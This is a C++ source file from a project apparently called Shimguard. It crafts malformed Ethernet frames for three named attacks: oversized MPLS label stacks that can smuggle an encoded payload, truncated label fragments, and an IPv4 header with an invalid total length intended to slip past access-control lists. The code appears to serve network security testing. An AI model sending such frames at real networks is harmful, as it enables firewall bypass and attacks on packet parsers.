// Copyright 2026 The Shimguard Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "shimguard/attacks.h"

#include <fmt/format.h>

namespace shimguard {

std::string_view to_string(AttackKind kind) {
  switch (kind) {
    case AttackKind::kLongShim:
      return "long-shim";
    case AttackKind::kShortShim:
      return "short-shim";
    case AttackKind::kAclBypass:
      return "acl-bypass";
  }
  return "?";
}

std::optional<AttackKind> attack_kind_from_string(std::string_view name) {
  for (AttackKind k :
       {AttackKind::kLongShim, AttackKind::kShortShim, AttackKind::kAclBypass}) {
    if (to_string(k) == name) return k;
  }
  return std::nullopt;
}

std::vector<MplsLse> encode_payload(ByteView data) {
  if (data.size() % kLseLen != 0) {
    throw std::invalid_argument(
        fmt::format("payload length {} is not a multiple of 4", data.size()));
  }
  std::vector<MplsLse> out;
  out.reserve(data.size() / kLseLen);
  for (std::size_t i = 0; i < data.size(); i += kLseLen) {
    const std::uint32_t word = load_be32(data.data() + i);
    if (word & MplsLse::kBosMask) {
      throw AttackError(
          AttackError::Kind::kPayloadViolatesConstraint,
          fmt::format("payload chunk {} (0x{:08x}) sets the bottom-of-stack bit",
                      i / kLseLen, word),
          i / kLseLen);
    }
    out.push_back(MplsLse::from_word(word));
  }
  return out;
}

Bytes decode_payload(std::span<const MplsLse> lses) {
  Bytes out;
  out.reserve(lses.size() * kLseLen);
  for (const MplsLse& lse : lses) append_be32(out, lse.to_word());
  return out;
}

bool payload_is_stack_safe(ByteView data) {
  for (std::size_t i = 0; i + kLseLen <= data.size(); i += kLseLen) {
    if (load_be32(data.data() + i) & MplsLse::kBosMask) return false;
  }
  return true;
}

namespace {

// Unreserved labels start at 16.
MplsLse filler_lse(std::size_t i) {
  MplsLse lse;
  lse.label = static_cast<std::uint32_t>(16 + i) & MplsLse::kMaxLabel;
  lse.ttl = 64;
  return lse;
}

RawFrame craft_long_shim(const AttackSpec& spec) {
  const std::size_t labels = spec.long_shim_labels();
  if (labels == 0) {
    throw AttackError(AttackError::Kind::kInvalidSpec,
                      fmt::format("frame size {} leaves no room for a label",
                                  spec.frame_size));
  }
  std::vector<MplsLse> stack;
  if (spec.payload) {
    Bytes padded = *spec.payload;
    padded.resize((padded.size() + kLseLen - 1) / kLseLen * kLseLen, 0);
    stack = encode_payload(padded);
    if (stack.size() > labels) {
      throw AttackError(
          AttackError::Kind::kPayloadTooLarge,
          fmt::format("payload needs {} labels, frame holds {}", stack.size(),
                      labels));
    }
  }
  for (std::size_t i = stack.size(); i < labels; ++i) stack.push_back(filler_lse(i));

  const EthernetHeader eth{spec.dst_mac, spec.src_mac, kEthTypeMplsUnicast};
  const std::vector<Layer> layers(stack.begin(), stack.end());
  return encode_frame(eth, layers);
}

RawFrame craft_short_shim(const AttackSpec& spec) {
  if (spec.fragment_len < 1 || spec.fragment_len >= kLseLen) {
    throw AttackError(AttackError::Kind::kInvalidSpec,
                      fmt::format("fragment length {} not in 1..3",
                                  spec.fragment_len));
  }
  const EthernetHeader eth{spec.dst_mac, spec.src_mac, kEthTypeMplsUnicast};
  const auto lse = filler_lse(0).encode();
  return encode_frame(eth, {}, ByteView(lse.data(), spec.fragment_len));
}

RawFrame craft_acl_bypass(const AttackSpec& spec) {
  Ipv4Header ip;
  ip.ihl = 5;
  ip.total_length = spec.total_length;
  if (ip.well_formed()) {
    throw AttackError(AttackError::Kind::kInvalidSpec,
                      fmt::format("total_length {} is not below the header length",
                                  spec.total_length));
  }
  ip.protocol = kIpProtoUdp;
  ip.src_ip = spec.src_ip;
  ip.dst_ip = spec.dst_ip;
  const EthernetHeader eth{spec.dst_mac, spec.src_mac, kEthTypeIpv4};
  Bytes ports;
  append_be16(ports, spec.src_port);
  append_be16(ports, spec.dst_port);
  const Layer layers[] = {ip};
  return encode_frame(eth, layers, ports);
}

}  // namespace

RawFrame craft(const AttackSpec& spec) {
  switch (spec.kind) {
    case AttackKind::kLongShim:
      return craft_long_shim(spec);
    case AttackKind::kShortShim:
      return craft_short_shim(spec);
    case AttackKind::kAclBypass:
      return craft_acl_bypass(spec);
  }
  throw AttackError(AttackError::Kind::kInvalidSpec, "unknown attack kind");
}

}  // namespace shimguard
